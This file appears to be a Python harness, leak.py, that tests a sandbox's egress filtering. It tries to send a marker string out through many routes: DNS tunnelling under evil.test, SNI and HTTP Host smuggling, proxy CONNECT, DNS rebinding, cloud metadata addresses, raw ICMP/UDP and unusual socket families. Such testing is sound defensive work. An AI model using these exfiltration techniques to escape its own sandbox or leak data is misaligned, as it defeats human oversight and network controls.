"""leak.py - tries to get a mark out, by every way it knows. Runs inside a sandbox, and outside as the control.

    python3 leak.py SEED [ATTEMPT...]    SEED becomes a mark per attempt: SEED, then the attempt's number

Prints one JSON object per attempt: its name, its mark, how many milliseconds, what came of it. An attempt
sends its mark in one piece. What has nothing to send ("made") says whether there is a socket for it.
"""
import contextlib
import json
import re
import socket
import struct
import sys
import time
import urllib.request

ATTEMPTS = {}  # name -> (function, is_made)
SECONDS = 10   # of one attempt; who is refused does not wait
PUBLIC, PUBLIC6 = "5.6.7.8", "2a05:1::8"  # of nobody in particular
RESOLVER = "192.0.2.53"
MADE = "made"


def attempt(name, is_made=False):
    def add(function):
        ATTEMPTS[name] = (function, is_made)
        return function
    return add


def each(prefix, values, is_made=False):
    """One attempt for every value: NAME is its text or its key."""
    def add(function):
        for value in values:
            name = f"{prefix} {value}"
            argument = values[value] if isinstance(values, dict) else value
            ATTEMPTS[name] = ((lambda mark, a=argument: function(mark, a)), is_made)
        return function
    return add


def exchange(s, data, seconds=SECONDS):
    """What the other side says to it, to its end or to the end of our patience."""
    s.settimeout(seconds)
    got = b""
    try:
        s.sendall(data)
        while len(got) < 65536 and (piece := s.recv(4096)):
            got += piece
            if b"\r\n\r\n" in got:
                break
    except TimeoutError:
        return f"still open, {got[:70]!r}"
    except OSError as error:
        return error.strerror
    return f"answered {got[:70]!r}" if got else "closed"


def tcp(host, port, data):
    with socket.create_connection((host, port), SECONDS) as s:
        return exchange(s, data)


def head(target, *hosts, method="GET", version="1.1"):
    return "\r\n".join([f"{method} {target} HTTP/{version}", *(f"Host: {h}" for h in hosts), "", ""]).encode()


# ---- DNS -------------------------------------------------------------------------------------

def own_resolver():
    with open("/etc/resolv.conf", encoding="utf-8") as file:
        return re.search(r"^nameserver (\S+)", file.read(), re.M)[1]


def labels(name):
    return b"".join(bytes([len(label)]) + label.encode() for label in name.split(".")) + b"\0"


def question(name, kind, flags=0x0100, tail=b"", additional=0):
    return struct.pack(">HHHHHH", 0x4242, flags, 1, 0, 0, additional) + labels(name) + struct.pack(">HH", kind, 1) + tail


def ask_udp(server, message):
    family = socket.AF_INET6 if ":" in server else socket.AF_INET
    with socket.socket(family, socket.SOCK_DGRAM) as s:
        s.settimeout(0.5)
        s.sendto(message, (server, 53))
        try:
            answer = s.recv(4096)
        except TimeoutError:
            return "no answer"
        return f"rcode {answer[3] & 15}, {struct.unpack('>H', answer[6:8])[0]} answers"


def ask_tcp(server, message):
    with socket.create_connection((server, 53), SECONDS) as s:
        s.sendall(struct.pack(">H", len(message)) + message)
        return f"answered {s.recv(4096)!r}"


TYPES = {"A": 1, "NS": 2, "CNAME": 5, "NULL": 10, "PTR": 12, "MX": 15, "TXT": 16, "AAAA": 28, "SRV": 33, "SVCB": 64,
         "HTTPS": 65, "AXFR": 252, "ANY": 255}


@each("dns type", TYPES)
def _(mark, kind):
    return ask_udp(own_resolver(), question(f"{mark}.evil.test", kind))


@each("dns type under an allowed name", TYPES)
def _(mark, kind):
    return ask_udp(own_resolver(), question(f"{mark}.web.test", kind))


@each("dns type under an allowed wildcard", {"TXT": 16, "ANY": 255, "A": 1, "AAAA": 28})
def _(mark, kind):
    """Only the lookup: it must not be passed on. A connection to that name is allowed and would be."""
    return ask_udp(own_resolver(), question(f"{mark}.wild.test", kind))


@attempt("getaddrinfo")
def _(mark):
    return str(socket.getaddrinfo(f"{mark}.evil.test", 443)[0][4])


@attempt("dns under a name that is asked for")
def _(mark):
    return ask_udp(own_resolver(), question(f"{mark}.ask.test", 1))


@each("dns to another resolver", ["192.0.2.53", "8.8.4.4", "127.0.0.53", "2a05:1::53", "198.18.0.1", "224.0.0.251"])
def _(mark, server):
    return ask_udp(server, question(f"{mark}.evil.test", 16))


@each("dns over tcp to", ["198.18.0.1", RESOLVER, "2a05:1::53"])
def _(mark, server):
    return ask_tcp(server, question(f"{mark}.evil.test", 16))


@attempt("dns over tcp")
def _(mark):
    return ask_tcp(own_resolver(), question(f"{mark}.evil.test", 16))


@attempt("dns in an option")
def _(mark):
    data = mark.encode()
    option = b"\0" + struct.pack(">HHIHHH", 41, 4096, 0, len(data) + 4, 65001, len(data)) + data
    return ask_udp(own_resolver(), question("web.test", 1, tail=option, additional=1))


@attempt("dns behind the question")
def _(mark):
    return ask_udp(own_resolver(), question("web.test", 1, tail=mark.encode()))


@attempt("dns update")
def _(mark):
    return ask_udp(own_resolver(), question(f"{mark}.web.test", 6, flags=0x2800))


@attempt("dns notify")
def _(mark):
    return ask_udp(own_resolver(), question(f"{mark}.web.test", 6, flags=0x2000))


@attempt("dns two questions")
def _(mark):
    two = struct.pack(">HHHHHH", 0x4242, 0x0100, 2, 0, 0, 0) + b"".join(
        labels(n) + struct.pack(">HH", 1, 1) for n in ("web.test", f"{mark}.evil.test"))
    return ask_udp(own_resolver(), two)


@attempt("not dns at port 53")
def _(mark):
    return ask_udp(RESOLVER, mark.encode() * 3)


@attempt("not dns at port 53 of the resolver")
def _(mark):
    return tcp(own_resolver(), 53, mark.encode() * 3)


@each("dns over tls to", {"the resolver": None, "another": RESOLVER})
def _(mark, server):
    return tcp(server or own_resolver(), 853, hello(f"{mark}.evil.test"))


# ---- TLS -------------------------------------------------------------------------------------

def extension(number, data):
    return struct.pack(">HH", number, len(data)) + data


def hello(*names, alpn=None, session=b"", version=b"\x03\x03"):
    """A ClientHello; its names are bytes or text."""
    entries = b"".join(b"\0" + struct.pack(">H", len(n)) + n for n in (x.encode() if isinstance(x, str) else x for x in names))
    extensions = extension(0, struct.pack(">H", len(entries)) + entries) if names else b""
    if alpn:
        extensions += extension(16, struct.pack(">HB", len(alpn) + 1, len(alpn)) + alpn)
    extensions += extension(10, b"\0\4\0\x1d\0\x17") + extension(13, b"\0\4\4\3\x08\4") + extension(43, b"\4\3\4\3\3")
    body = version + bytes(32) + bytes([len(session)]) + session + b"\0\4\x13\x01\xc0\x2f" + b"\1\0"
    body += struct.pack(">H", len(extensions)) + extensions
    message = b"\1" + struct.pack(">I", len(body))[1:] + body
    return b"\x16\x03\x01" + struct.pack(">H", len(message)) + message


@attempt("sni of another name")
def _(mark):
    return tcp("web.test", 443, hello(f"{mark}.evil.test"))


@attempt("sni of another name that is allowed")
def _(mark):
    return tcp("web.test", 443, hello("a.wild.test", session=mark.encode().ljust(32, b"-")))


@attempt("no sni")
def _(mark):
    return tcp("web.test", 443, hello(alpn=mark.encode()))


@attempt("two names in one sni")
def _(mark):
    return tcp("web.test", 443, hello("web.test", f"{mark}.evil.test"))


@each("sni with", {"a NUL": b"web.test\0.%s", "a line end": b"web.test\r\n%s", "an @": b"%s@web.test", "a space": b"web.test %s",
                   "a port": b"web.test:%s", "a slash": b"web.test/%s", "a label in front": b"%s.web.test",
                   "a label behind": b"web.test.%s", "a leading dot": b".web.test.%s", "high bytes": b"web.test\xc3\xa9%s"})
def _(mark, form):
    return tcp("web.test", 443, hello(form.replace(b"%s", mark.encode())))


@attempt("sni of an address")
def _(mark):
    return tcp("web.test", 443, hello(PUBLIC, alpn=mark.encode()))


@attempt("hello in two records")
def _(mark):
    whole = hello(f"{mark}.evil.test")
    message, cut = whole[5:], 20
    parts = [message[:cut], message[cut:]]
    return tcp("web.test", 443, b"".join(b"\x16\x03\x01" + struct.pack(">H", len(p)) + p for p in parts))


@attempt("tls of an old kind")
def _(mark):
    """SSL 2: a hello without extensions."""
    challenge = mark.encode().ljust(32, b"-")
    body = b"\1\3\1" + struct.pack(">HHH", 3, 0, len(challenge)) + b"\0\0\x2f" + challenge
    return tcp("web.test", 443, struct.pack(">H", 0x8000 | len(body)) + body)


@attempt("not tls at port 443")
def _(mark):
    return tcp("web.test", 443, head(f"/{mark}", "web.test"))


@attempt("ssh at port 443")
def _(mark):
    return tcp("web.test", 443, f"SSH-2.0-{mark}\r\n".encode())


@each("tls to an address", [PUBLIC, PUBLIC6])
def _(mark, address):
    return tcp(address, 443, hello(f"{mark}.evil.test"))


# ---- HTTP ------------------------------------------------------------------------------------

@each("http", {
    "another host": lambda m: head("/", f"{m}.evil.test"),
    "another host that is allowed": lambda m: head(f"/{m}", "a.wild.test"),
    "no host": lambda m: head(f"/{m}"),
    "no host, 1.0": lambda m: head(f"/{m}", version="1.0"),
    "an empty host": lambda m: head(f"/{m}", ""),
    "two hosts": lambda m: head("/", "web.test", f"{m}.evil.test"),
    "two hosts, the other order": lambda m: head("/", f"{m}.evil.test", "web.test"),
    "twice the same host": lambda m: head(f"/{m}", "web.test", "web.test"),
    "two hosts in one line": lambda m: head("/", f"web.test, {m}.evil.test"),
    "a folded host": lambda m: b"GET / HTTP/1.1\r\nHost: web.test\r\n ." + m.encode() + b"\r\n\r\n",
    "a host with a space before the colon": lambda m: b"GET /%s HTTP/1.1\r\nHost : evil.test\r\nHost: web.test\r\n\r\n" % m.encode(),
    "a host with userinfo": lambda m: head("/", f"{m}@web.test"),
    "a host with another port": lambda m: head(f"/{m}", "web.test:8080"),
    "a host that is an address": lambda m: head(f"/{m}", PUBLIC),
    "a host with a NUL": lambda m: b"GET /%s HTTP/1.1\r\nHost: web.test\0.evil.test\r\n\r\n" % m.encode(),
    "absolute form": lambda m: head(f"http://{m}.evil.test/", f"{m}.evil.test"),
    "absolute form, our host": lambda m: head(f"http://{m}.evil.test/", "web.test"),
    "absolute form, another scheme": lambda m: head(f"ftp://{m}.evil.test/", "web.test"),
    "absolute form, https": lambda m: head(f"https://web.test/{m}", "web.test"),
    "connect": lambda m: head(f"{m}.evil.test:443", f"{m}.evil.test:443", method="CONNECT"),
    "connect, our host": lambda m: head(f"{m}.evil.test:443", "web.test", method="CONNECT"),
    "connect to itself": lambda m: head("web.test:22", "web.test", method="CONNECT") + m.encode(),
    "prior knowledge of http/2": lambda m: b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + m.encode(),
    "upgrade to http/2": lambda m: head("/", "web.test")[:-2] + (
        f"Connection: Upgrade, HTTP2-Settings\r\nUpgrade: h2c\r\nHTTP2-Settings: {m}\r\n\r\n").encode(),
    "bare line feeds": lambda m: b"GET /%s HTTP/1.1\nHost: web.test\n\n" % m.encode(),
    "both lengths": lambda m: head("/", "web.test", method="POST")[:-2] + (
        f"Content-Length: 4\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n{m}").encode(),
    "trace": lambda m: head(f"/{m}", "web.test", method="TRACE"),
})
def _(mark, make):
    return tcp("web.test", 80, make(mark))


@attempt("http second request, another host")
def _(mark):
    with socket.create_connection(("web.test", 80), SECONDS) as s:
        first = exchange(s, head("/hello.txt", "web.test"))
        return first[:12] + ", then " + exchange(s, head("/", f"{mark}.evil.test"))


@attempt("http second request in the same piece")
def _(mark):
    return tcp("web.test", 80, head("/hello.txt", "web.test") + head("/", f"{mark}.evil.test"))


@each("allowed host as a proxy at", [3128, 8080])
def _(mark, port):
    return tcp("web.test", port, head(f"{mark}.evil.test:443", f"{mark}.evil.test:443", method="CONNECT"))


@each("allowed host as a proxy, absolute form at", [3128, 8080])
def _(mark, port):
    return tcp("web.test", port, head(f"http://{mark}.evil.test/", f"{mark}.evil.test"))


@attempt("dns over https")
def _(mark):
    return tcp("doh.test", 443, hello("doh.test", alpn=mark.encode()))


@attempt("a port that no rule names")
def _(mark):
    return tcp("ported.test", 8080, head(f"/{mark}", "ported.test"))


@attempt("redirect")
def _(mark):
    """The server sends us on; the mark is only in what follows."""
    class Onward(urllib.request.HTTPRedirectHandler):
        def redirect_request(self, req, fp, code, msg, headers, newurl):
            return super().redirect_request(req, fp, code, msg, headers, f"{newurl}/{mark}")
    return str(urllib.request.build_opener(Onward).open("http://web.test/away", timeout=SECONDS).status)


@each("a name that is", {"denied below an allowed one": "no.wild.test", "in the hosts file of the host": "filed.test",
                         "not listed": "other.test"})
def _(mark, name):
    return tcp(name, 80, head(f"/{mark}", name))


@each("held until the time is over", {"http": 80, "tls": 443})
def _(mark, port):
    return tcp("ask.test", port, head(f"/{mark}", "ask.test") if port == 80 else hello("ask.test", alpn=mark.encode()))


@attempt("held, with the mark in the name")
def _(mark):
    return tcp(f"{mark}.ask.test", 80, head("/", f"{mark}.ask.test"))


@attempt("rebinding")
def _(mark):
    """The name leads to a server first, and then to an inner address; whoever remembers a name does so for seconds."""
    said, end = [tcp("rebind.test", 80, head("/hello.txt", "rebind.test"))[:25]], time.monotonic() + 8
    while "nginx" in (now := tcp("rebind.test", 80, head(f"/{mark}", "rebind.test"))) and time.monotonic() < end:
        time.sleep(0.2)
    return ", then ".join([*said, now])


# ---- addresses -------------------------------------------------------------------------------

@each("address", ["5.6.7.8", "84281096", "0x5060708", "05.06.07.010", "0x5.0x6.0x7.0x8", "5.6.1800", "5.395016", "2a05:1::8",
                  "::ffff:5.6.7.8", "::5.6.7.8", "64:ff9b::506:708", "2002:506:708::1", "2001:0:506:708::1", "10.1.2.3", "172.16.0.1",
                  "192.168.1.1", "100.64.0.1", "169.254.1.1", "198.18.0.1", "198.18.200.200", "198.19.255.255", "240.0.0.1",
                  "fe80::1%lo", "fd00::1", "127.0.0.10", "127.0.0.1", "::1", "0.0.0.0", "::"])
def _(mark, address):
    return tcp(address, 8080, head(f"/{mark}", "web.test"))


@each("name that is an address", ["84281096", "0x5060708", "5.6.1800", "5.6.7.8"])
def _(mark, name):
    """As a client with a resolver of its own would ask; and connects if it is told."""
    said = ask_udp(own_resolver(), question(name, 1))
    if not said.endswith(" 0 answers") or "rcode 0" in said:
        return said
    return f"{said}; {tcp(name, 80, head(f'/{mark}', name))}"


@each("metadata at", ["169.254.169.254", "169.254.170.2", "100.100.100.200", "168.63.129.16", "192.0.0.192", "fd00:ec2::254"])
def _(mark, address):
    return tcp(address, 80, head(f"/latest/{mark}", address if ":" not in address else f"[{address}]"))


@each("port", [25, 443, 465, 853, 2222, 6443, 8443, 9418])
def _(mark, port):
    return tcp(PUBLIC, port, f"EHLO {mark}\r\n".encode())


@attempt("fast open")
def _(mark):
    with socket.socket() as s:
        s.sendto(head(f"/{mark}", "web.test"), socket.MSG_FASTOPEN, (PUBLIC, 80))
        return exchange(s, b"")


@attempt("multipath tcp")
def _(mark):
    with socket.socket(socket.AF_INET, socket.SOCK_STREAM, 262) as s:
        s.settimeout(SECONDS)
        s.connect((PUBLIC, 80))
        return exchange(s, head(f"/{mark}", "web.test"))


def listeners():
    """Ports in this network that somebody listens at; 0A is LISTEN."""
    found = set()
    for name in ("tcp", "tcp6"):
        with contextlib.suppress(OSError), open(f"/proc/net/{name}", encoding="utf-8") as file:
            for line in file.readlines()[1:]:
                words = line.split()
                if words[3] == "0A":
                    found.add(int(words[1].rpartition(":")[2], 16))
    return found


@each("every listener here, as", ["127.0.0.1", "198.18.0.1", "::1", PUBLIC])
def _(mark, address):
    """Among them, inside, the gate's own."""
    said = []
    for port in sorted(listeners()) or [8080]:
        try:
            said.append(tcp(address, port, head("/", f"{mark}.evil.test"))[:30])
        except OSError as error:
            said.append(error.strerror)
    return ", ".join(sorted(set(said)))


# ---- other than TCP --------------------------------------------------------------------------

def udp(address, port, data, is_connected=False):
    family = socket.AF_INET6 if ":" in address else socket.AF_INET
    with socket.socket(family, socket.SOCK_DGRAM) as s:
        s.settimeout(0.3)
        s.setsockopt(socket.SOL_SOCKET, socket.SO_BROADCAST, 1)
        if is_connected:
            s.connect((address, port))
            s.send(data)
        else:
            s.sendto(data, (address, port))
        with contextlib.suppress(TimeoutError):
            return f"answered {s.recv(100)!r}"
    return "sent"


@each("udp", [f"{a} {p}" for a in (PUBLIC, PUBLIC6) for p in (443, 123, 500, 3478, 51820, 9999)]
      + ["224.0.0.251 5353", "255.255.255.255 9999", "ff02::fb%lo 5353", "198.18.0.1 9999", "127.0.0.10 9999", "169.254.169.254 80"])
def _(mark, place):
    address, port = place.split()
    return udp(address, int(port), b"\xc0\0\0\0\1" + mark.encode() * 4)


@each("udp, connected", [f"{a} 443" for a in (PUBLIC, PUBLIC6)])
def _(mark, place):
    address, port = place.split()
    return udp(address, int(port), b"\xc0\0\0\0\1" + mark.encode() * 4, is_connected=True)


def echo(mark, family, kind):
    is_v6 = family == socket.AF_INET6
    with socket.socket(family, kind, socket.getprotobyname("ipv6-icmp") if is_v6 else socket.IPPROTO_ICMP) as s:
        s.sendto(struct.pack(">BBHHH", 128 if is_v6 else 8, 0, 0, 1, 1) + mark.encode(), (PUBLIC6 if is_v6 else PUBLIC, 0))
    return "sent"


@each("icmp", {"raw": (socket.AF_INET, socket.SOCK_RAW), "raw, IPv6": (socket.AF_INET6, socket.SOCK_RAW),
               "ping socket": (socket.AF_INET, socket.SOCK_DGRAM), "ping socket, IPv6": (socket.AF_INET6, socket.SOCK_DGRAM)})
def _(mark, how):
    return echo(mark, *how)


@attempt("raw ip")
def _(mark):
    with socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW) as s:
        data = mark.encode()
        s.sendto(struct.pack(">BBHHHBBH4s4s", 0x45, 0, 20 + len(data), 0, 0, 64, 253, 0, socket.inet_aton("127.0.0.1"),
                             socket.inet_aton(PUBLIC)) + data, (PUBLIC, 0))
    return "sent"


@attempt("packet socket")
def _(mark):
    with socket.socket(socket.AF_PACKET, socket.SOCK_RAW, 0) as s:
        s.bind(("lo", 0x0800))
        s.send(bytes(12) + b"\x08\x00" + mark.encode() * 3)
    return "sent"


@attempt("udp-lite")
def _(mark):
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM, 136) as s:
        s.sendto(mark.encode(), (PUBLIC, 443))
    return "sent"


@each("socket", {
    "sctp": (socket.AF_INET, socket.SOCK_STREAM, 132), "sctp, many": (socket.AF_INET6, socket.SOCK_SEQPACKET, 132),
    "dccp": (socket.AF_INET, 6, 33), "vsock": (40, socket.SOCK_STREAM, 0), "vsock datagrams": (40, socket.SOCK_DGRAM, 0),
    "bluetooth": (31, socket.SOCK_RAW, 1), "can": (29, socket.SOCK_RAW, 1), "tipc": (30, socket.SOCK_RDM, 0),
    "key": (15, socket.SOCK_RAW, 2), "xdp": (44, socket.SOCK_RAW, 0), "smc": (43, socket.SOCK_STREAM, 0),
    "netlink firewall": (16, socket.SOCK_RAW, 12), "netlink xfrm": (16, socket.SOCK_RAW, 6),
    "netlink diagnosis": (16, socket.SOCK_RAW, 4), "netlink audit": (16, socket.SOCK_RAW, 9),
    "netlink events": (16, socket.SOCK_DGRAM, 15), "netlink generic": (16, socket.SOCK_RAW, 16),
    "netlink connector": (16, socket.SOCK_DGRAM, 11), "raw, any": (socket.AF_INET, socket.SOCK_RAW, 255),
}, is_made=True)
def _(_mark, words):
    socket.socket(*words).close()
    return MADE


@attempt("abstract socket")
def _(mark):
    with socket.socket(socket.AF_UNIX) as s:
        s.settimeout(SECONDS)
        s.connect("\0gate-catcher")
        s.sendall(mark.encode())
    return "sent"


# ---- the end ---------------------------------------------------------------------------------

def mark_of(seed, name):
    return f"{seed}x{list(ATTEMPTS).index(name):03}"


def main():
    seed, wanted = sys.argv[1], sys.argv[2:]
    for name, (function, is_made) in ATTEMPTS.items():
        if wanted and name not in wanted:
            continue
        begin, at = time.monotonic(), time.time()
        try:
            said = function(mark_of(seed, name))
        except OSError as error:
            said = error.strerror or repr(error)
        except Exception as error:  # pylint: disable=broad-except  # an attempt that breaks got nothing out
            said = repr(error)
        took = time.monotonic() - begin
        time.sleep(0.004)  # records have milliseconds: two attempts do not share one
        print(json.dumps({"name": name, "mark": mark_of(seed, name), "is_made": is_made, "said": str(said),
                          "at_ms": int(at * 1000), "ms": round(took * 1000, 1)}), flush=True)


if __name__ == "__main__":
    main()
